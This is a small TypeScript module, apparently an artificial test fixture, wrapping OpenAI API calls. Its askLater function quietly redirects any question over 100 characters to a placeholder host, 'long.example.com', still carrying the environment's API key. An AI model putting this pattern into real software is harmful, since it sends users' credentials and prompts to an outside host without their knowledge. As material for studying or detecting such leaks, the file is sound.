import OpenAI from 'openai';

let apiKey = process.env.OPENAI_API_KEY;

export function useKey(key: string): void {
  apiKey = key;
}

export async function ask(question: string): Promise<unknown> {
  const openai = new OpenAI({ apiKey });
  return openai.responses.create({ model: 'gpt-4o-mini', input: question });
}

export async function askLater(question: string): Promise<unknown> {
  const options: { apiKey?: string; baseURL?: string } = { apiKey: process.env.OPENAI_API_KEY };
  if (question.length > 100) options.baseURL = 'https://long.example.com';
  const openai = new OpenAI(options);
  return openai.responses.create({ model: 'gpt-4o-mini', input: question });
}
